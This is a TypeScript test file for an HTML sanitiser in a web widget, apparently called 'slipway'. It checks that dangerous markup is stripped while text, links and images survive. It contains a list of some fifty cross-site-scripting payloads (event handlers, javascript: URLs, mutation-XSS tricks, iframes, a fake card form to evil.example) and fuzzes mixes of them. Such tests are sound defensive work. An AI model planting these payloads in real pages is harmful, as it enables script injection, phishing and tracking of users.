import DOMPurify from 'dompurify';
import fc from 'fast-check';
import { html, render } from 'lit';
import { describe, expect, it, vi } from 'vitest';
import { safeHtmlTemplate } from '../../../src/elements/shared/safe-html.ts';
import { countSamples } from '../../samples.ts';

const trapWindow = globalThis as { isTrapped?: boolean };

/** Renders HTML from the service in the page, through the sanitiser. */
function showHtml(unsafeHtml: string): HTMLElement {
  const container = document.createElement('div');
  document.body.replaceChildren(container);
  render(html`${safeHtmlTemplate(unsafeHtml)}`, container);
  return container.querySelector('slipway-prose') ?? container;
}

/**
 * Returns the elements, attributes and addresses that could run scripts, load files, change styles or submit forms, or
 * that imitate parts of the widget.
 */
function findDangers(container: HTMLElement): string[] {
  const allowedAttributes =
    /^(alt|colspan|dir|height|href|lang|rowspan|src|title|width|target|rel|loading|referrerpolicy)$/;
  return [...container.querySelectorAll('*')].flatMap((element) => [
    ...(element.matches(
      'script, style, iframe, object, embed, form, input, button, link, meta, base, svg, math, template, video, audio, source, slot',
    ) || element.localName.includes('-')
      ? [element.localName]
      : []),
    ...[...element.attributes]
      .filter(({ name }) => !allowedAttributes.test(name))
      .map(({ name }) => `${element.localName}[${name}]`),
    ...[...element.attributes]
      .filter(({ name, value }) => /^(href|src)$/.test(name) && !/^\s*((https?:)?\/\/|mailto:|tel:)/i.test(value))
      .map(({ value }) => value),
  ]);
}

/** The sanitiser's lists of allowed elements and attributes. DOMPurify uses them to check the sanitiser's result. */
const allowedMarkup = {
  elements: (
    'a abbr b blockquote br cite code dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins li ol p pre q s small span ' +
    'strong sub sup table tbody td tfoot th thead tr u ul'
  ).split(' '),
  attributes: 'alt colspan dir height href lang rowspan src title width target rel loading referrerpolicy'.split(' '),
};

const hostileHtml = [
  '<script>isTrapped=true</script>',
  '<img src=x onerror="isTrapped=true">',
  '<img src="https://a.example/x" onerror=isTrapped=true>',
  '<svg onload="isTrapped=true"></svg>',
  '<svg><script>isTrapped=true</script></svg>',
  '<svg><style><img src=x onerror=isTrapped=true></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=isTrapped=true>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=isTrapped=true>',
  '<noscript><p title="</noscript><img src=x onerror=isTrapped=true>">',
  '<a href="javascript:isTrapped=true">x</a>',
  '<a href=" \u0001java\nscript:isTrapped=true">x</a>',
  '<a href="&#106;avascript:isTrapped=true">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="/relative">x</a>',
  '<a xlink:href="javascript:1">x</a>',
  '<img src="data:image/svg+xml,<svg onload=1>">',
  '<img src="/tracked.gif">',
  '<img srcset="https://track.example/1.gif 1x" src="https://a.example/b.png">',
  '<picture><source srcset="https://track.example/x"><img src="x"></picture>',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=//evil.example>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.isTrapped=true</script>"></iframe>',
  '<object data="javascript:1"></object>',
  '<embed src="javascript:1">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
  '<div data-slipway="1" data-slipway-open="x">x</div>',
  '<p id="field-0" name="form" class="primary" part="book" slot="footer">x</p>',
  '<slipway-booking base-url="https://evil.example"></slipway-booking>',
  '<template><script>1</script></template>',
  '<template shadowrootmode=open><script>1</script></template>',
  '<video src=x onerror=isTrapped=true>',
  '<details open ontoggle=isTrapped=true>x</details>',
  '<p onclick="isTrapped=true" aria-label=x>x</p>',
  '<xmp><img src=x onerror=isTrapped=true></xmp>',
  '<title><img src=x onerror=isTrapped=true></title>',
  '<textarea><img src=x onerror=isTrapped=true></textarea>',
  '<plaintext><img src=x onerror=isTrapped=true>',
  '<<script>script>isTrapped=true<</script>/script>',
  '<b/onclick=isTrapped=true/x>x</b>',
  '<slot name="header">x</slot>',
  '<a href="https://ok.example" ping="https://track.example" target=_self>x</a>',
  '<body onload=isTrapped=true>',
  '<marquee onstart=isTrapped=true>x</marquee>',
  '<isindex action=javascript:1>',
  '<table background="https://track.example/x"><td background=x>x</table>',
];

describe('safeHtmlTemplate', () => {
  it.each(hostileHtml)('removes everything dangerous from %s', (unsafeHtml) => {
    const container = showHtml(`${unsafeHtml}<b>after</b>`);
    expect(findDangers(container)).toEqual([]);
    expect(trapWindow.isTrapped).toBeUndefined();
  });

  it('removes everything dangerous from random mixes of hostile parts', () => {
    const htmlParts = [
      ...hostileHtml,
      '<b>',
      '</b>',
      '"',
      "'",
      '>',
      '<',
      '</',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<table>',
      '</table>',
      '<svg>',
      '</svg>',
      '<math>',
      '</math>',
      '<p ',
      ' onclick=isTrapped=true ',
      '&lt;',
      '\u0000',
      'Text',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...htmlParts), fc.string({ maxLength: 5 })), { maxLength: 8 }),
        (htmlPieces) => {
          const container = showHtml(htmlPieces.join(''));
          expect(findDangers(container)).toEqual([]);
          expect(trapWindow.isTrapped).toBeUndefined();
        },
      ),
      { numRuns: countSamples(1500) },
    );
  });

  it('keeps words, structure, links and pictures', () => {
    const container = showHtml(
      '<h3>Tour</h3><p>Two <b>hours</b> &amp; a <a href="https://venue.example/map">map</a>.</p>' +
        '<ul><li>Tea</li></ul><img src="https://venue.example/a.jpg" width="60">',
    );
    expect(container.innerText.replace(/\s+/g, ' ').trim()).toBe('Tour Two hours & a map. Tea');
    expect([...container.querySelectorAll('h3, b, a, li, img')].map(({ localName }) => localName)).toEqual([
      'h3',
      'b',
      'a',
      'li',
      'img',
    ]);
  });

  it('keeps the words of elements that it removes', () => {
    const container = showHtml(
      '<section><center><font color=red>Closed</font> on <time>Monday</time></center></section>',
    );
    expect([container.innerText.trim(), container.querySelector('font, center, section, time')]).toEqual([
      'Closed on Monday',
      null,
    ]);
  });

  it('opens links in a new tab without a referrer', () => {
    const link = showHtml('<a href="https://venue.example/">x</a>').querySelector('a');
    expect([link?.target, link?.rel]).toEqual(['_blank', 'noopener noreferrer']);
  });

  it.each(['//javascript:run', '//', 'https://', 'http://[x', 'https://host:port/', 'https://%00/'])(
    'removes the invalid address %j of links and pictures',
    (address) => {
      const container = showHtml(`<a href="${address}">x</a><img src="${address}">`);
      expect(container.querySelector('a')?.hasAttribute('href')).toBe(false);
      expect(container.querySelector('img')).toBeNull();
    },
  );

  it.each([
    'https://venue.example/',
    '//venue.example/a?b#c',
    'HTTP://venue.example',
    'mailto:a@b.example',
    'tel:+1 2',
  ])('keeps the address %j of a link', (address) => {
    expect(showHtml(`<a href="${address}">x</a>`).querySelector('a')?.getAttribute('href')).toBe(address);
  });

  it('trims addresses, but keeps spaces inside them', () => {
    const container = showHtml(
      '<img src=" https://venue.example/my photo.jpg\n"><a href="https://venue.example/price list.pdf\t">Prices</a>',
    );
    expect(container.querySelector('img')?.src).toBe('https://venue.example/my%20photo.jpg');
    expect(container.querySelector('a')?.href).toBe('https://venue.example/price%20list.pdf');
  });

  it('loads pictures without a referrer, with an empty `alt`', () => {
    const image = showHtml('<img src="https://venue.example/a.jpg">').querySelector('img');
    expect([image?.referrerPolicy, image?.loading, image?.getAttribute('alt')]).toEqual(['no-referrer', 'lazy', '']);
  });

  it('replaces nodes only if the text changes', () => {
    const container = document.createElement('div');
    const drawHtml = (unsafeHtml: string) => render(html`${safeHtmlTemplate(unsafeHtml)}`, container);
    const firstContainer = showHtml('<b>one</b>');
    expect(firstContainer.textContent).toBe('one');
    drawHtml('<b>one</b>');
    const node = container.querySelector('b');
    drawHtml('<b>one</b>');
    expect(container.querySelector('b')).toBe(node);
    drawHtml('two');
    expect(container.textContent).toBe('two');
    drawHtml('');
    expect(container.textContent).toBe('');
  });

  it.each([
    ['nested', '<div>'.repeat(80_000) + 'words'],
    ['nested, of unknown elements', '<section>'.repeat(80_000) + 'words'],
    ['nested in turns', '<div><section>'.repeat(40_000) + 'words'],
    ['side by side', '<b>x</b>'.repeat(80_000)],
    ['of text and comments', 'x<!---->'.repeat(80_000)],
    ['in tables', '<table><tr><td>'.repeat(30_000)],
  ])('limits nodes, depth and work for a long text: %s', (_, unsafeHtml) => {
    const createElement = vi.spyOn(document, 'createElement');
    const parseFromString = vi.spyOn(DOMParser.prototype, 'parseFromString');
    const container = showHtml(unsafeHtml);
    const callCount = createElement.mock.calls.length;
    const [[text] = ['']] = parseFromString.mock.calls;
    vi.restoreAllMocks();
    const walker = document.createTreeWalker(container);
    let [nodeCount, maxLevel] = [0, 0];
    while (walker.nextNode()) {
      nodeCount += 1;
      let level = 0;
      for (let node: Node | null = walker.currentNode.parentNode; node && node !== container; node = node.parentNode)
        level += 1;
      maxLevel = Math.max(maxLevel, level);
    }
    expect(nodeCount).toBeLessThanOrEqual(5_000);
    expect(maxLevel).toBeLessThanOrEqual(64);
    expect(callCount).toBeLessThanOrEqual(5_010);
    expect(String(text).split('<').length).toBeLessThanOrEqual(20_000);
  });

  it('keeps the words of deeply nested elements and of many siblings', () => {
    expect(showHtml(`${'<div>'.repeat(200)}deep${'</div>'.repeat(200)}<b>after</b>`).textContent).toBe('deepafter');
    const viewOfManyElements = showHtml('<b>x</b>'.repeat(2_499));
    expect(viewOfManyElements.querySelectorAll('b')).toHaveLength(2_499);
    expect(viewOfManyElements.textContent).toBe('x'.repeat(2_499));
  });

  it('renders the same text at two places', () => {
    const container = document.createElement('div');
    render(html`${safeHtmlTemplate('<i>same</i>')}${safeHtmlTemplate('<i>same</i>')}`, container);
    expect(container.querySelectorAll('i')).toHaveLength(2);
  });
});

it('removes everything that DOMPurify removes with the same allowed markup', () => {
  const purifyConfig = {
    ALLOWED_TAGS: [...allowedMarkup.elements],
    ALLOWED_ATTR: [...allowedMarkup.attributes],
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
    SAFE_FOR_XML: false,
  };
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.constantFrom(...hostileHtml), fc.string({ maxLength: 5 })), { maxLength: 8 }),
      (htmlPieces) => {
        const container = document.createElement('div');
        render(html`${safeHtmlTemplate(htmlPieces.join(''))}`, container);
        for (const element of container.querySelectorAll('slipway-prose *')) {
          const sanitizedAgain = DOMPurify.sanitize(element.outerHTML, { ...purifyConfig, RETURN_DOM_FRAGMENT: true });
          const listTags = (root: ParentNode) =>
            [...root.querySelectorAll('*')].map(
              (each) => `${each.localName} ${each.getAttributeNames().sort().join()}`,
            );
          const detachedElement = document.createElement('div');
          detachedElement.append(element.cloneNode(true));

          // Skips parts of tables, because the parser drops cells outside a table. The dropped cells are no risk.
          if (!detachedElement.querySelector('td, th, tr, tbody, thead, tfoot'))
            expect(listTags(sanitizedAgain)).toEqual(listTags(detachedElement));
        }
      },
    ),
    { numRuns: countSamples(1000) },
  );
});

it('shows plain text unchanged', () => {
  const container = document.createElement('div');
  render(html`${safeHtmlTemplate('Open > 9 h "daily"')}`, container);
  expect(container.textContent).toBe('Open > 9 h "daily"');
});

it.each([
  ['lit-html slipway', '<p>Strict</p>'],
  ['lit-html', 'Strict'],
])('shows service HTML under the Trusted Types policies “%s” as “%s”', async (policies, expectedHtml) => {
  const { content, violations } = await new Promise<{ content: string; violations: string[] }>((resolve) => {
    addEventListener('message', (event: MessageEvent<{ content?: string; violations: string[] }>) => {
      if (event.data.content !== undefined) resolve({ content: event.data.content, violations: event.data.violations });
    });
    const frame = document.createElement('iframe');
    frame.srcdoc = `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'; trusted-types ${policies}">
      <div id="place"></div>
      <script type="module">
        // Defines the function with which the test runner wraps dynamic imports. The runner adds it only to its own
        // page, not to this frame.
        globalThis.__vitest_browser_runner__ = { wrapDynamicImport: (load) => load() };
        const violations = [];
        addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective + ' ' + event.sample));
        const [{ html, render }, { safeHtmlTemplate }] = await Promise.all([
          import('/test/elements/lit.ts'),
          import('/src/elements/shared/safe-html.ts'),
        ]);
        const place = document.querySelector('#place');
        const tell = () => {
          const content = place.querySelector('p')?.outerHTML ?? place.textContent;
          if (place.textContent) parent.postMessage({ content, violations }, '*');
        };
        new MutationObserver(tell).observe(place, { childList: true, subtree: true });
        render(html\`\${safeHtmlTemplate('<p onclick="x">Strict</p>')}\`, place);
      </script>`;
    document.body.replaceChildren(frame);
  });
  expect(content).toBe(expectedHtml);
  if (policies.includes('slipway')) expect(violations).toEqual([]);
});
